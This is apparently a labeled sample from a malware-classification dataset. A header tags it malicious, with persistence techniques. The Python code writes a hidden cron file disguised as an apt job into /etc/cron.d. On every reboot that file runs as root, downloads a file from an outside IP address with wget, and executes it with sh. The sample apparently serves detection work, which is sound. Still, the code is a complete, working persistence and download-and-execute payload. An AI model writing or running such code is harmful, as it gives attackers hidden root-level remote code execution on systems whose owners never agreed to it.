# label: malicious family=persist techniques=T1036.005,T1053.003,T1059.004,T1105,T1564.001 lines=3
from pathlib import Path
Path("/etc/cron.d/.apt-daily").write_text("@reboot root wget -q -O /tmp/a http://203.0.113.84/a && sh /tmp/a\n")
